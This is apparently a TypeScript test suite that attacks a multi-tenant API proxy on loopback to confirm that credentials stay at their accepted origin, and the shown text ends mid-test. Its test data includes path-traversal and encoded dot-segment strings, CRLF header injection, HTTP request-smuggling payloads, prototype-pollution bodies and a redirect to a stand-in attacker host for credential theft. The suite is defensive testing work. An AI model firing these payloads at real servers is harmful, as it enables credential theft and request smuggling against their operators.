// A hostile tenant against the proxy (issue 24), as live-proxy.test.ts runs it: the real server in
// live mode, the real outbound guard over TLS, a fake SugarCRM at `sugar.test:<port>` and a fake
// attacker at `attacker.test:<port>` (an injected resolver answers 127.0.0.1 for both and nothing
// for any other name: nothing leaves this machine, no real name is ever resolved). Freshservice,
// Infobip and Taxify keep their real URLs up to the stream the proxy sends through; there a
// recording wrapper takes note of what was asked and sends it on, through the same guard, to one
// plain-HTTP fake on 127.0.0.1 that answers for all three. Each attack is one test: either it is
// refused or harmless (the test pins that), or it was a hole, fixed in the source (said so).
import Database from "better-sqlite3";
import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { defaultProxy, defaultVendorTiming } from "../../src/config.js";
import { guardedSender } from "../../src/outbound/guarded-sender.js";
import { guardedStream, type GuardedStream, type OutboundStream } from "../../src/outbound/guarded-stream.js";
import { OutboundError } from "../../src/outbound/outbound.js";
import { answerJson, hang, startFakeVendor, type FakeVendor, type VendorHandler } from "../../test-support/fake-vendor.js";
import { body, startTestServer, type TestServer } from "../harness.js";
import { loopbackSender, sendingNothingAway } from "../outbound/outbound-fakes.js";

// Canaries: what the platform holds for each instance. None may reach the caller or another host.
const canary = {
  sugarPassword: "canary-SUGAR-pass-3e9d",
  sugarKey: "canary-SUGAR-key-81aa",
  sugarSecret: "canary-SUGAR-secret-c04f",
  freshPassword: "canary-FRESH-pass-77b2",
  infobipPassword: "canary-INFOBIP-pass-1d6c",
  taxifyKey: "canary-TAXIFY-key-5a0e",
};

/** SugarCRM's tokens: access tokens it accepts now, refresh tokens it takes once, and how many it granted. */
const sugar = { access: new Set<string>(), refresh: new Set<string>(), grants: 0 };

const sugarToken: VendorHandler = (request, response) => {
  const grant = JSON.parse(request.body || "{}") as Record<string, string>;
  const ok = grant.grant_type === "password" ? grant.password === canary.sugarPassword : sugar.refresh.delete(grant.refresh_token ?? "");
  if (!ok) return answerJson(400, { error: "invalid_grant" })(request, response);
  sugar.grants++;
  const issued = { access_token: `canary-ACCESS-${randomBytes(6).toString("hex")}`, refresh_token: randomBytes(8).toString("hex") };
  sugar.access.add(issued.access_token);
  sugar.refresh.add(issued.refresh_token);
  answerJson(200, { ...issued, expires_in: 3600 })(request, response);
};

/** SugarCRM's API, with the answers an attack needs. */
const sugarApi: VendorHandler = (request, response) => {
  const token = String(request.headers["oauth-token"] ?? "");
  const path = request.path.split("?")[0];
  if (path === "/rest/v10/Always401") return answerJson(401, { error: "invalid_grant" })(request, response);
  if (!sugar.access.has(token)) return answerJson(401, { error: "invalid_grant" })(request, response);
  if (path === "/rest/v10/Slow") return hang()(request, response);
  if (path === "/rest/v10/EchoToken") {
    // A vendor that repeats the token it was sent, in its headers, as it is and in other forms.
    const form = request.path.split("?")[1] ?? "raw";
    const value = { raw: token, upper: token.toUpperCase(), base64: Buffer.from(token).toString("base64") }[form] ?? token;
    return answerJson(200, { ok: true }, { "x-seen-token": value })(request, response);
  }
  if (path === "/rest/v10/Forged") {
    // A vendor (the tenant's own SugarCRM: site.url is theirs) answering as if it were the platform.
    response.writeHead(404, {
      "content-type": "application/problem+json",
      "cache-control": "public, max-age=86400",
      "x-content-type-options": "sniff-away",
      "content-security-policy": "default-src *; script-src * 'unsafe-inline'",
      "x-frame-options": "ALLOWALL",
      "x-request-id": "forged-request-id",
      "x-proxied-from": "nobody",
      connection: "x-proxied-from",
    });
    return void response.end(JSON.stringify({ type: "urn:instances-api:problem:not-found", title: "Not found", status: 404 }));
  }
  if (path === "/rest/v10/Redirect") {
    response.writeHead(307, { location: `https://attacker.test:${attacker.port}/steal` });
    return void response.end();
  }
  if (path === "/rest/v10/Trickle") {
    // A long answer, slowly: 1 KiB every 20 ms, for as long as the client reads.
    response.writeHead(200, { "content-type": "text/plain" });
    const timer = setInterval(() => response.write(Buffer.alloc(1024, 100)), 20);
    trickling.open++;
    response.on("close", () => {
      trickling.open--;
      clearInterval(timer);
    });
    return;
  }
  if (path === "/rest/v10/Dies") {
    // Headers and part of the body, then the connection cut.
    response.writeHead(200, { "content-type": "text/plain", "content-length": "100000" });
    response.write(Buffer.alloc(1000, 99));
    return void setTimeout(() => response.socket?.destroy(), 50);
  }
  return answerJson(200, { method: request.method, path: request.path, body: request.body })(request, response);
};

/** How many of the vendor's trickling answers are still being sent. */
const trickling = { open: 0 };

/** Freshservice, Infobip and Taxify on one plain-HTTP fake, told apart by the host the proxy meant. */
const otherVendors: VendorHandler = (request, response) => {
  const basic = Buffer.from(/^Basic (.+)$/.exec(String(request.headers.authorization ?? ""))?.[1] ?? "", "base64").toString();
  const path = request.path.split("?")[0];
  if (path?.endsWith("/echo")) {
    // A vendor that repeats what it was sent: its Authorization header in one of its own, and the body.
    return answerJson(
      200,
      { body: request.body },
      { "x-seen-authorization": String(request.headers.authorization ?? "") },
    )(request, response);
  }
  if (request.host === "acme.freshservice.com") {
    return answerJson(basic === `agent:${canary.freshPassword}` ? 200 : 401, { agent: { id: 1 } })(request, response);
  }
  if (request.host === "api.infobip.com") {
    return answerJson(basic === `sms:${canary.infobipPassword}` ? 200 : 401, { balance: 1 })(request, response);
  }
  if (request.host === "ws.taxify.co") {
    // Taxify: the key under the operation's name, the verdict in the body of a 200 (spec/connectors/taxify.yaml).
    const operation = path?.split("/").at(-1) ?? "";
    const sent = JSON.parse(request.body || "{}") as Record<string, { Security?: { Password?: string } } | undefined>;
    return answerJson(200, { d: { ResponseStatus: sent[operation]?.Security?.Password === canary.taxifyKey ? 1 : 0 } })(request, response);
  }
  return answerJson(404, { error: "no such vendor" })(request, response);
};

let vendor: FakeVendor;
let attacker: FakeVendor;
let plain: FakeVendor;
let guarded: GuardedStream;
let t: TestServer;
/** What the proxy asked its stream to send, in order: where, and with which headers. */
const asked: { url: URL; headers: Record<string, string | string[]> }[] = [];

const loopbackNames = ["sugar.test", "attacker.test"];
const lookup = (hostname: string) => Promise.resolve(loopbackNames.includes(hostname) ? [{ address: "127.0.0.1", family: 4 }] : []);
const otherVendorHosts = new Set(["acme.freshservice.com", "api.infobip.com", "ws.taxify.co"]);

/** The proxy's stream: noted, then through the guard (the three real vendors' URLs to the plain fake instead). */
const recordingStream: OutboundStream = (request) => {
  asked.push({ url: request.url, headers: request.headers });
  if (loopbackNames.includes(request.url.hostname)) return guarded.send(request);
  if (otherVendorHosts.has(request.url.host)) {
    const url = new URL(plain.origin);
    url.pathname = request.url.pathname;
    url.search = request.url.search;
    return guarded.send({ ...request, url, headers: { ...request.headers, "x-original-host": request.url.host } });
  }
  return Promise.reject(new OutboundError("unreachable", `the tests send nothing to ${request.url.host}`));
};

beforeAll(async () => {
  [vendor, attacker, plain] = await Promise.all([
    startFakeVendor({ names: ["sugar.test"], handle: sugarApi }),
    startFakeVendor({ names: ["attacker.test"], handle: answerJson(200, { attacker: true }) }),
    startFakeVendor({ tls: false, handle: otherVendors }),
  ]);
  vendor.on("POST /rest/v10/oauth2/token", sugarToken);
  const allowedHosts = [vendor.host, attacker.host, plain.host];
  const ca = [vendor.caPem, attacker.caPem];
  guarded = guardedStream({ allowedHosts, ca, lookup, answerTimeoutMs: 1_000, connectionsPerOrigin: 8 });
  const sugarSender = guardedSender({ allowedHosts, ca, lookup });
  const otherSender = loopbackSender(() => plain.port);
  t = await startTestServer({
    config: {
      provisioning: "live",
      // As in production: one token grant per instance per interval, however many calls draw a 401.
      verifyMinIntervalMs: 5_000,
      vendor: { ...defaultVendorTiming, timeoutMs: 2_000, refreshPollMs: 600_000 },
      proxy: {
        ...defaultProxy,
        timeoutMs: 1_500,
        responseMaxBytes: 1024 * 1024,
        requestMaxBytes: 64 * 1024,
        perInstance: 3,
        perOrganization: 5,
      },
    },
    outbound: {
      ...sendingNothingAway(),
      send: (request) => (loopbackNames.includes(request.url.hostname) ? sugarSender(request) : otherSender(request)),
      stream: { send: recordingStream, close: () => guarded.close() },
    },
  });
});
afterAll(async () => {
  await t?.stop();
  await Promise.all([vendor?.close(), attacker?.close(), plain?.close()]);
});
beforeEach(() => {
  for (const fake of [vendor, attacker, plain]) fake.requests.length = 0;
  asked.length = 0;
});

async function created(json: unknown, authorization = t.authorization): Promise<{ id: number; token: string }> {
  const response = await t.api("/instances", { method: "POST", json, headers: { Authorization: authorization } });
  expect(response.status, await response.clone().text()).toBe(200);
  return body<{ id: number; token: string }>(response);
}

const sugarInstance = (authorization?: string) =>
  created(
    {
      your_mom: { key: "sugarcrmv2" },
      configuration: {
        "oauth.api.key": canary.sugarKey,
        "oauth.api.secret": canary.sugarSecret,
        "site.url": `sugar.test:${vendor.port}`,
        username: "sales",
        password: canary.sugarPassword,
      },
      name: "CRM",
    },
    authorization,
  );
const freshserviceInstance = () =>
  created({
    your_mom: { key: "freshservice" },
    configuration: { username: "agent", password: canary.freshPassword, subdomain: "acme" },
    name: "Desk",
  });
const infobipInstance = () =>
  created({
    your_mom: { key: "infobip" },
    configuration: {
      "messaging.sms.infobip.sender": "+17777777777",
      "messaging.sms.infobip.username": "sms",
      "messaging.sms.infobip.password": canary.infobipPassword,
      "messaging.sms.infobip.callback.url": "https://app.example/delivered",
    },
    name: "SMS",
  });
const taxifyInstance = () => created({ your_mom: { key: "taxify" }, configuration: { "api.key": canary.taxifyKey }, name: "Tax" });

/** The API's base path on the server (`/api/...`), for requests written by hand. */
const basePath = () => new URL(t.server.apiUrl).pathname;

interface RawAnswer {
  status: number;
  head: string;
  body: string;
}

/**
 * One request written byte for byte on a socket to the server (127.0.0.1): no client in between
 * to resolve dot segments, merge headers or refuse what a hostile client would send.
 */
function rawHttp(text: string | Buffer, options: { closeAfterMs?: number } = {}): Promise<RawAnswer> {
  const { port } = new URL(t.server.url);
  return new Promise((resolve, reject) => {
    const socket = connect({ host: "127.0.0.1", port: Number(port) });
    const chunks: Buffer[] = [];
    socket.on("data", (chunk: Buffer) => chunks.push(chunk));
    socket.on("error", reject);
    socket.on("close", () => {
      const all = Buffer.concat(chunks).toString("latin1");
      const split = all.indexOf("\r\n\r\n");
      const head = split === -1 ? all : all.slice(0, split);
      resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0), head, body: split === -1 ? "" : all.slice(split + 4) });
    });
    socket.write(text);
    if (options.closeAfterMs !== undefined) setTimeout(() => socket.destroy(), options.closeAfterMs);
  });
}

/** A request line and headers, the Authorization and `Connection: close` added. */
const request = (requestLine: string, headers: string[] = [], bodyText = "") =>
  `${requestLine}\r\nHost: 127.0.0.1\r\nAuthorization: ${t.authorization}\r\nConnection: close\r\n${headers.map((h) => `${h}\r\n`).join("")}\r\n${bodyText}`;

/** Every secret the platform holds for the instances of these tests, the vendor's tokens among them. */
const heldSecrets = () => [...Object.values(canary), ...sugar.access, ...sugar.refresh];
const leaked = (text: string) => heldSecrets().filter((secret) => text.toLowerCase().includes(secret.toLowerCase()));

/** Every vendor request went to its own origin and API, and the attacker received nothing. */
function expectOnlyAcceptedOrigins(): void {
  expect(attacker.requests).toEqual([]);
  for (const { url } of asked) {
    const sugarBound = url.hostname === "sugar.test";
    expect(sugarBound || otherVendorHosts.has(url.host), url.href).toBe(true);
    if (sugarBound) {
      expect(url.origin).toBe(`https://sugar.test:${vendor.port}`);
      expect(url.pathname.startsWith("/rest/v10/"), url.href).toBe(true);
    }
  }
  for (const recorded of vendor.requests) expect(recorded.headers.host).toBe(`sugar.test:${vendor.port}`);
}

/** What SugarCRM's API received (its token endpoint left out). */
const apiCalls = () => vendor.requests.filter((r) => !r.path.startsWith("/rest/v10/oauth2/"));

const proxyCalls = async (id: number) =>
  body<{ total: number; calls: { outcome: string; status: number | null; path: string; retried: boolean }[] }>(
    await t.api(`/instances/${id}/proxy-calls`),
  );

/** Waits until the instance takes proxied calls again (its in-flight slots all given back), or fails. */
async function expectSlotsBack(id: number, slots = 3): Promise<void> {
  for (let attempt = 0; attempt < 20; attempt++) {
    const answers = await Promise.all(Array.from({ length: slots }, () => t.api(`/instances/${id}/proxy/Contacts`)));
    await Promise.all(answers.map((a) => a.arrayBuffer()));
    if (answers.every((a) => a.status === 200)) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  expect.fail(`instance ${id} stays at 429: its in-flight slots leaked`);
}

describe("exfiltration: the credentials go only to the origin they were accepted at", () => {
  it("keeps every path trick below the API at the accepted origin (@, //host, scheme-like, long), or refuses it", async () => {
    const { id } = await sugarInstance();
    const prefix = `${basePath()}/instances/${id}/proxy/`;
    const attackerHost = `attacker.test:${attacker.port}`;
    const refused = [
      "../oauth2/token",
      "%2e%2e/%2e%2e/x",
      ".%2E/x",
      "%2e./x",
      "Contacts/%2e",
      `https:%2f%2f${attackerHost}/x`,
      `%5c${attackerHost}/x`,
      `\\${attackerHost}/x`,
      `%5C%5C${attackerHost}`,
      // Fixed: a percent-encoded control character went on to the vendor (`%00`, a CR LF), which
      // the path check meant to refuse: only raw ones were, and those never get past Node.
      "Contacts%00.json",
      "Contacts%0d%0aHost:%20attacker.test",
      "Contacts%7f",
      // Fixed: a dot segment with a path parameter is `..` to a servlet container (Tomcat, Jetty).
      "..;/oauth2/token",
      "%2e%2e;jsessionid=1/oauth2/token",
      "a/.;/b",
    ];
    const keptBelow = [
      `@${attackerHost}/x`,
      `/${attackerHost}/x`,
      `//${attackerHost}/x`,
      `https:/${attackerHost}/x`,
      `Contacts;@${attackerHost}`,
      `..a/x`,
      `Contacts/${"a".repeat(7_000)}`,
      `Contacts#@${attackerHost}`,
    ];
    for (const trick of refused) expect((await rawHttp(request(`GET ${prefix}${trick} HTTP/1.1`))).status, trick).toBe(400);
    expect(asked).toEqual([]);
    for (const trick of keptBelow) expect((await rawHttp(request(`GET ${prefix}${trick} HTTP/1.1`))).status, trick).toBe(200);
    expect(asked).toHaveLength(keptBelow.length);
    expectOnlyAcceptedOrigins();
  });

  it("keeps a query's tricks in the query, sent as it came", async () => {
    const { id } = await sugarInstance();
    const attackerHost = `attacker.test:${attacker.port}`;
    const queries = [`?@${attackerHost}`, `?//${attackerHost}/x`, `??a=/../../x`, `?a=%00&b=%0d%0a`, `?next=https://${attackerHost}/`];
    for (const query of queries) {
      const answer = await rawHttp(request(`GET ${basePath()}/instances/${id}/proxy/Contacts${query} HTTP/1.1`));
      expect(answer.status, query).toBe(200);
      expect(asked.at(-1)!.url.search, query).toBe(query);
    }
    expectOnlyAcceptedOrigins();
  });

  it("ignores an absolute-form request target, Host, X-Forwarded-Host and Forwarded, and refuses an :authority header", async () => {
    const { id } = await sugarInstance();
    const attackerHost = `attacker.test:${attacker.port}`;
    const absolute = await rawHttp(
      request(`GET https://${attackerHost}${basePath()}/instances/${id}/proxy/Contacts HTTP/1.1`, [
        `X-Forwarded-Host: ${attackerHost}`,
        `X-Forwarded-Proto: http`,
        `Forwarded: host=${attackerHost};proto=https`,
        `X-Original-Host: ${attackerHost}`,
        `X-Host: ${attackerHost}`,
      ]).replace("Host: 127.0.0.1", `Host: ${attackerHost}`),
    );
    expect(absolute.status).toBe(200);
    expect(absolute.head).toMatch(/x-proxied-from: sugarcrmv2/i);
    const [sent] = apiCalls();
    expect(sent!.headers.host).toBe(`sugar.test:${vendor.port}`);
    expect(sent!.headers.forwarded).toBeUndefined();
    expect(Object.keys(sent!.headers).filter((name) => name.startsWith("x-forwarded-"))).toEqual([]);
    const authority = await rawHttp(request(`GET ${basePath()}/instances/${id}/proxy/Contacts HTTP/1.1`, [`:authority: ${attackerHost}`]));
    expect(authority.status).toBe(400);
    expectOnlyAcceptedOrigins();
  });

  it("puts Taxify's key where the connector says, over whatever the caller wrote there, and nowhere else", async () => {
    const { id } = await taxifyInstance();
    plain.requests.length = 0; // the create's check
    const elsewhere = `https://attacker.test:${attacker.port}/`;
    const attempts = [
      `{"CalculateTax":{"Security":{"Password":"mine","Url":"${elsewhere}"},"DocumentKey":"k"}}`,
      `{"CalculateTax":"a string where the object goes","url":"${elsewhere}"}`,
      `{"__proto__":{"CalculateTax":{"Security":{}}},"calculatetax":{"security":{"password":"a lower-case twin"}}}`,
      `{"CalculateTax":{"Security":["an","array"]}}`,
      `{"Request":{"Security":{"Password":"under another root"}}}`,
    ];
    for (const text of attempts) {
      const answer = await t.api(`/instances/${id}/proxy/CalculateTax`, {
        method: "POST",
        body: text,
        headers: { "Content-Type": "application/json" },
      });
      expect(answer.status, text).toBe(200);
    }
    expect(plain.requests).toHaveLength(attempts.length);
    for (const sent of plain.requests) {
      expect(sent.host).toBe("ws.taxify.co");
      expect(sent.path).toBe("/taxify/1.0/core/JSONService.asmx/CalculateTax");
      const json = JSON.parse(sent.body) as { CalculateTax: { Security: Record<string, unknown> } };
      expect(json.CalculateTax.Security.Password).toBe(canary.taxifyKey);
      // The key is in the one place, once.
      expect(sent.body.split(canary.taxifyKey)).toHaveLength(2);
    }
    for (const [text, status, operation] of [
      ["[1,2]", 400, "CalculateTax"],
      ['"a string"', 400, "CalculateTax"],
      ["not json", 400, "CalculateTax"],
      // The key goes under the operation's name: one that is not a name is refused, nothing sent.
      ["{}", 400, "Calculate-Tax"],
      ["{}", 400, "%5F%5Fproto%5F%5F%20"],
      ["{}", 400, "__proto__"],
      ["{}", 400, "CalculateTax/"],
    ] as const) {
      const answer = await t.api(`/instances/${id}/proxy/${operation}`, {
        method: "POST",
        body: text,
        headers: { "Content-Type": "application/json" },
      });
      expect(answer.status, text).toBe(status);
      expect(answer.headers.get("x-proxied-from")).toBeNull();
    }
    expectOnlyAcceptedOrigins();
  });

  it("follows no redirect of the vendor's: the caller gets it, the credentials stay", async () => {
    const { id } = await sugarInstance();
    // `manual`: this test's own client must not follow it either (nor resolve attacker.test).
    const answer = await t.api(`/instances/${id}/proxy/Redirect`, { redirect: "manual" });
    expect(answer.status).toBe(307);
    expect(answer.headers.get("location")).toBe(`https://attacker.test:${attacker.port}/steal`);
    expect(answer.headers.get("x-proxied-from")).toBe("sugarcrmv2");
    expectOnlyAcceptedOrigins();
  });

  it("sends nothing when the row names another site than the one the credentials were accepted at (changed behind the API)", async () => {
    const { id } = await sugarInstance();
    const db = new Database(path.join(t.dataDir, "instances.sqlite"));
    try {
      const row = db.prepare("SELECT configuration FROM instances WHERE id = ?").get(id) as { configuration: string };
      const configuration = { ...(JSON.parse(row.configuration) as Record<string, string>), "site.url": `attacker.test:${attacker.port}` };
      db.prepare("UPDATE instances SET configuration = ? WHERE id = ?").run(JSON.stringify(configuration), id);
    } finally {
      db.close();
    }
    const answer = await t.api(`/instances/${id}/proxy/Contacts`);
    expect(answer.status).toBe(409);
    expect(await body(answer)).toMatchObject({ type: "urn:instances-api:problem:credentials-not-usable" });
    expect(answer.headers.get("x-proxied-from")).toBeNull();
    expect(asked).toEqual([]);
    expect(attacker.requests).toEqual([]);
  });
});

describe("exfiltration: the credentials never come back to the caller", () => {
  it("drops a vendor header that repeats the OAuth token, as sent or in another case or encoding", async () => {
    const { id } = await sugarInstance();
    for (const form of ["raw", "upper", "base64"]) {
      const answer = await t.api(`/instances/${id}/proxy/EchoToken?${form}`);
      expect(answer.status, form).toBe(200);
      // Fixed: only the token as sent was caught; its upper case or base64 came back.
      expect(answer.headers.get("x-seen-token"), form).toBeNull();
    }
  });

  it("drops a vendor header that repeats the Basic credentials (Freshservice, Infobip)", async () => {
    for (const { id } of [await freshserviceInstance(), await infobipInstance()]) {
      const answer = await t.api(`/instances/${id}/proxy/echo`);
      expect(answer.status).toBe(200);
      // Fixed: the password is in the header as base64 (`Basic dXNl...`): the check looked for it as sent.
      expect(answer.headers.get("x-seen-authorization")).toBeNull();
      expect(leaked([...answer.headers].join("\n"))).toEqual([]);
    }
  });

  // Fixed: a vendor that repeats what it was sent repeats the credentials put in it, Taxify's key
  // above all (it is in the body). A connector whose credentials travel in the body now has its
  // answer read whole, uncompressed, and blotted of every held secret (proxy-service.ts).
  it("keeps Taxify's key out of a vendor answer that repeats the request's body", async () => {
    const { id } = await taxifyInstance();
    const answer = await t.api(`/instances/${id}/proxy/echo`, { method: "POST", json: { echo: {} } });
    expect(answer.status).toBe(200);
    expect(leaked(await answer.text())).toEqual([]);
  });
});

describe("header smuggling", () => {
  it("sends our OAuth-Token whatever the caller sends: its own, in another case, twice, or named in Connection", async () => {
    const { id } = await sugarInstance();
    const answer = await rawHttp(
      request(`GET ${basePath()}/instances/${id}/proxy/Contacts HTTP/1.1`, [
        "OAuth-Token: callers-own",
        "oauth-token: second",
        "OAUTH-TOKEN: third",
        "Connection: oauth-token, x-custom",
        "X-Custom: dropped",
        "Proxy-Authorization: Basic eDp5",
        "TE: trailers",
        "Upgrade: h2c",
        "Keep-Alive: timeout=5",
      ]),
    );
    expect(answer.status).toBe(200);
    const [sent] = apiCalls();
    expect(sugar.access.has(String(sent!.headers["oauth-token"]))).toBe(true);
    expect(sent!.headers["oauth-token"]).not.toMatch(/callers-own|second|third/);
    for (const name of ["x-custom", "proxy-authorization", "te", "upgrade", "keep-alive"])
      expect(sent!.headers[name], name).toBeUndefined();
    expect(String(sent!.headers.connection ?? "")).not.toMatch(/oauth-token|x-custom/i);
  });

  it("sends our Basic credentials whatever Authorization-like headers the caller adds (Freshservice, Infobip)", async () => {
    const instances = [
      { ...(await freshserviceInstance()), path: "tickets", user: "agent", password: canary.freshPassword },
      { ...(await infobipInstance()), path: "account/1/balance", user: "sms", password: canary.infobipPassword },
    ];
    for (const { id, path, user, password } of instances) {
      const answer = await rawHttp(
        request(`GET ${basePath()}/instances/${id}/proxy/${path} HTTP/1.1`, [
          "Authorization: Basic bWluZTptaW5l", // a second one: Node keeps the first, ours to the platform
          "Connection: authorization",
          "Proxy-Authorization: Basic bWluZTptaW5l",
        ]),
      );
      expect(answer.status).toBe(200);
      const sent = plain.requests.at(-1)!;
      expect(sent.headers.authorization).toBe(`Basic ${Buffer.from(`${user}:${password}`).toString("base64")}`);
      expect(sent.headers["proxy-authorization"]).toBeUndefined();
    }
  });

  it("refuses CR LF in a header, a header with both Content-Length and Transfer-Encoding, and an obscured Transfer-Encoding", async () => {
    const { id } = await sugarInstance();
    const line = `POST ${basePath()}/instances/${id}/proxy/Echo HTTP/1.1`;
    const attempts = [
      ["X-A: a\rOAuth-Token: x", "Content-Length: 0"],
      ["Content-Length: 4", "Transfer-Encoding: chunked"],
      ["Transfer-Encoding: chunked, identity"],
      ["Transfer-Encoding: xchunked"],
      ["Content-Length: 1", "Content-Length: 2"],
    ];
    const statuses = [];
    for (const headers of attempts) statuses.push((await rawHttp(request(line, headers, "0\r\n\r\n"))).status);
    expect(statuses).toEqual([400, 400, 400, 400, 400]);
    // `Transfer-Encoding: xchunked` gets as far as the proxy, which starts the vendor's request
    // before Node finds the body unreadable: that request is abandoned, and never complete.
    expect(apiCalls()).toEqual([]);
  });

  it("sends no body with a GET, so a request smuggled in a GET's chunked body never reaches the vendor", async () => {
    const { id } = await sugarInstance();
    const smuggled = `GET /rest/v10/Smuggled HTTP/1.1\r\nHost: sugar.test\r\n\r\n`;
    const chunk = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
    const answer = await rawHttp(
      request(`GET ${basePath()}/instances/${id}/proxy/Contacts HTTP/1.1`, ["Transfer-Encoding: chunked"], chunk),
    );
    expect(answer.status).toBe(200);
    expect(apiCalls().map((r) => r.path)).toEqual(["/rest/v10/Contacts"]);
    expect(apiCalls()[0]!.body).toBe("");
  });

  it("answers Expect: 100-continue itself, and sends a chunked body on as a body", async () => {
    const { id } = await sugarInstance();
    const answer = await rawHttp(
      request(
        `POST ${basePath()}/instances/${id}/proxy/Echo HTTP/1.1`,
        ["Expect: 100-continue", "Transfer-Encoding: chunked"],
        "5\r\nhello\r\n0\r\n\r\n",
      ),
    );
    expect(answer.status).toBe(100);
    expect(answer.body).toMatch(/^HTTP\/1\.1 200 /);
    expect(apiCalls()[0]!.headers.expect).toBeUndefined();
    expect(apiCalls()[0]!.body).toBe("hello");
  });
});

describe("amplification: one request, at most one retry and one token grant", () => {
  it("answers a GET the vendor always refuses with one grant and two calls at most, then none (fixed: it hung when its deadline ran out meanwhile)", async () => {
    const { id } = await sugarInstance();
    const grants = sugar.grants;
    const refusedCalls = () => apiCalls().filter((r) => r.path === "/rest/v10/Always401").length;
    const first = await t.api(`/instances/${id}/proxy/Always401`);
    expect(first.status).toBe(401);
    expect(first.headers.get("x-proxied-from")).toBe("sugarcrmv2");
    expect(sugar.grants - grants).toBe(1);
    expect(refusedCalls()).toBe(2);
    // Within VERIFY_MIN_INTERVAL the lease is cooling down after the very refresh that issued this
    // token: no grant, and no wait for a renewal nobody is making: the vendor's 401 at once.
    // (Fixed twice: it hung when its deadline ran out during the wait, the answer's body already
    // destroyed and piped on, holding its slots; then it waited out the deadline for nothing.)
    const started = Date.now();
    const again = await t.api(`/instances/${id}/proxy/Always401`);
    expect(again.status).toBe(401);
    await again.arrayBuffer();
    expect(Date.now() - started).toBeLessThan(3_000);
    expect(sugar.grants - grants).toBe(1);
    expect(refusedCalls()).toBe(3);
    await expectSlotsBack(id);
  });

  it("renews the token once for many concurrent 401s", async () => {
    const { id } = await sugarInstance();
    sugar.access.clear(); // every token the vendor issued is refused now
    const grants = sugar.grants;
    const answers = await Promise.all(Array.from({ length: 3 }, () => t.api(`/instances/${id}/proxy/Contacts`)));
    expect(answers.map((a) => a.status)).toEqual([200, 200, 200]);
    expect(sugar.grants - grants).toBe(1);
    expect(apiCalls().filter((r) => r.path === "/rest/v10/Contacts")).toHaveLength(6);
  });

  it("never sends a POST or a PATCH twice", async () => {
    const { id } = await sugarInstance();
    for (const method of ["POST", "PATCH"]) {
      expect((await t.api(`/instances/${id}/proxy/Always401`, { method, json: {} })).status).toBe(401);
    }
    expect(apiCalls().map((r) => r.method)).toEqual(["POST", "PATCH"]);
  });
});

/** A proxied request written on a socket that is cut after `afterMs` (mid-body, or mid-answer). */
const cutAfter = (requestText: string, afterMs: number) => rawHttp(requestText, { closeAfterMs: afterMs });

describe("starvation: slots, connections and memory", () => {
  it("holds one organization's calls to its own slots: a tenant at its cap leaves another's calls alone", async () => {
    const tenant = await t.newAccount("tenant-a");
    const [a1, a2, a3] = [
      await sugarInstance(tenant.authorization),
      await sugarInstance(tenant.authorization),
      await sugarInstance(tenant.authorization),
    ];
    const { id: ours } = await sugarInstance();
    const as = { headers: { Authorization: tenant.authorization } };
    const hanging = [
      ...Array.from({ length: 3 }, () => t.api(`/instances/${a1.id}/proxy/Slow`, as)),
      ...Array.from({ length: 2 }, () => t.api(`/instances/${a2.id}/proxy/Slow`, as)),
    ];
    await new Promise((resolve) => setTimeout(resolve, 200));
    const past = await t.api(`/instances/${a3.id}/proxy/Contacts`, as);
    expect(past.status).toBe(429);
    expect(past.headers.get("x-proxied-from")).toBeNull();
    expect((await t.api(`/instances/${ours}/proxy/Contacts`)).status).toBe(200);
    expect((await Promise.all(hanging)).map((a) => a.status)).toEqual([504, 504, 504, 504, 504]);
    expect((await t.api(`/instances/${a3.id}/proxy/Contacts`, as)).status).toBe(200);
  });

  it("gives the slots back when the caller goes away mid-body, streamed (POST) or read whole (PUT)", async () => {
    const { id } = await sugarInstance();
    const line = (method: string) => `${method} ${basePath()}/instances/${id}/proxy/Echo HTTP/1.1`;
    await Promise.all(
      ["POST", "POST", "PUT", "PUT", "PATCH", "DELETE"].map((method) =>
        cutAfter(request(line(method), ["Transfer-Encoding: chunked", "Content-Type: text/plain"], "5\r\nhello\r\n"), 150),
      ),
    );
    await expectSlotsBack(id);
    expect(apiCalls().filter((r) => r.path === "/rest/v10/Echo")).toEqual([]);
  });

  it("gives the slots and the vendor's connections back when the caller goes away mid-answer", async () => {
    const { id } = await sugarInstance();
    // More than the guard keeps to one origin (8): a connection left open would queue the next call.
    for (let round = 0; round < 4; round++) {
      await Promise.all(
        Array.from({ length: 3 }, () => cutAfter(request(`GET ${basePath()}/instances/${id}/proxy/Trickle HTTP/1.1`), 100)),
      );
    }
    // The vendor's answers are ended, not left open (the guard keeps few connections to one
    // origin, and every tenant of that vendor shares them).
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(trickling.open).toBe(0);
    const started = Date.now();
    await expectSlotsBack(id);
    expect(Date.now() - started).toBeLessThan(1_000);
    const outcomes = (await proxyCalls(id)).calls.filter((c) => c.path === "/rest/v10/Trickle").map((c) => c.outcome);
    expect(outcomes.length).toBeGreaterThan(0);
    expect(new Set(outcomes)).toEqual(new Set(["aborted"]));
  });

  it("ends a caller that stops reading a long answer at the deadline, and gives its slots back", async () => {
    const { id } = await sugarInstance();
    const { port } = new URL(t.server.url);
    const socket = connect({ host: "127.0.0.1", port: Number(port) });
    socket.on("error", () => undefined);
    socket.write(request(`GET ${basePath()}/instances/${id}/proxy/Trickle HTTP/1.1`));
    socket.once("data", () => socket.pause()); // reads the status line, then nothing more
    try {
      await new Promise((resolve) => setTimeout(resolve, 1_700)); // past PROXY_TIMEOUT_MS (1.5 s)
      await expectSlotsBack(id); // while that caller is still connected
      expect((await proxyCalls(id)).calls.find((c) => c.path === "/rest/v10/Trickle")?.outcome).toBe("aborted");
    } finally {
      socket.destroy();
    }
  });

  it("gives the slots back when the vendor cuts its answer short", async () => {
    const { id } = await sugarInstance();
    const answers = await Promise.all(Array.from({ length: 3 }, () => t.api(`/instances/${id}/proxy/Dies`)));
    for (const answer of answers) await expect(answer.arrayBuffer()).rejects.toThrow();
    await expectSlotsBack(id);
    expect((await proxyCalls(id)).calls.filter((c) => c.path === "/rest/v10/Dies").map((c) => c.outcome)).toEqual([
      "aborted",
      "aborted",
      "aborted",
    ]);
  });

  it("refuses a chunked body over the cap with 413, streamed (POST) or read whole (PUT), and gives the slots back", async () => {
    const { id } = await sugarInstance();
